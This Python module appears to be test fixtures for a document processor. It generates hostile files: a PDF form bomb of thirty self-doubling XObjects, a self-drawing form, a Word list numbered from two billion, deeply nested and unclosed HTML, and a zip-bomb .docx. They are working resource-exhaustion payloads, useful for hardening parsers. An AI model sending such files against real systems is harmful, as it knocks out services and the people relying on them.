"""Files made to harm whoever reads them: small to send, dear to open."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Sequence
from pathlib import Path

import docx
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls


def pdf(objects: Sequence[bytes]) -> bytes:
    """A PDF of these objects, the first of them its catalogue."""
    out, places = io.BytesIO(b"%PDF-1.7\n"), []
    out.seek(0, io.SEEK_END)
    for number, body in enumerate(objects, 1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.writelines(b"%010d 00000 n \n" % place for place in places)
    out.write(b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))
    return out.getvalue()


def stream(head: bytes, content: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(content), content)


def forms(path: Path, depth: int, draws: bytes) -> Path:
    """A page that draws the first of `depth` forms, each of which draws the next as `draws` says ("/F Do"). The last of
    several draws nothing; one alone is its own next.
    """
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    words = b"BT /T 12 Tf 20 100 Td (The committee met on 4 May 2031.) Tj ET "
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /T 5 0 R >> "
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page + b"/XObject << /F 6 0 R >> >> >>",
        stream(b"", words + b"/F Do"),
        font,
    ]
    for number in range(6, 6 + depth):
        inner = min(number + 1, 5 + depth)
        head = b"/Type /XObject /Subtype /Form /BBox [0 0 300 200] /Resources << /Font << /T 5 0 R >> /XObject "
        head += b"<< /F %d 0 R >> >>" % inner
        last = number == 5 + depth and depth > 1
        objects.append(stream(head, words + (b"" if last else draws)))
    path.write_bytes(pdf(objects))
    return path


def form_bomb(path: Path) -> Path:
    """Thirty forms, each drawing the next twice: a page of a thousand million lines in 8 kB."""
    return forms(path, 30, b"/F Do /F Do")


def self_drawing(path: Path) -> Path:
    """A form that draws itself."""
    return forms(path, 1, b"/F Do")


def counted_list(path: Path) -> Path:
    """A Word list in letters that begins at 2,000,000,000."""
    document = docx.Document()
    for _ in range(3):
        document.add_paragraph("The committee met.", style="List Number")
    root = document.part.numbering_part.element
    for level in root.iter("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}lvl"):
        for tag, value in (("start", "2000000000"), ("numFmt", "lowerLetter")):
            for old in level.findall(f"{{http://schemas.openxmlformats.org/wordprocessingml/2006/main}}{tag}"):
                level.remove(old)
            level.insert(0, parse_xml(f'<w:{tag} {nsdecls("w")} w:val="{value}"/>'))
    document.save(str(path))
    return path


def nested(path: Path, depth: int = 30_000) -> Path:
    """A web page of words struck out within words struck out."""
    path.write_text(f"<html><body><p>The committee met.{'<del>x' * depth}{'</del>' * depth}</p></body></html>")
    return path


def cdata(path: Path, count: int = 100_000) -> Path:
    """A web page of sections that never end."""
    path.write_text(f"<html><body><p>The committee met.</p>{'<![CDATA[' * count}</body></html>")
    return path


def zip_bomb(path: Path, paragraphs: int = 8_000_000) -> Path:
    """A Word file of empty paragraphs, a thousand times its size when unpacked."""
    plain = io.BytesIO()
    docx.Document().save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
        for name in source.namelist():
            body = source.read(name)
            if name == "word/document.xml":
                body = body.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * paragraphs)
            bomb.writestr(name, body)
    return path
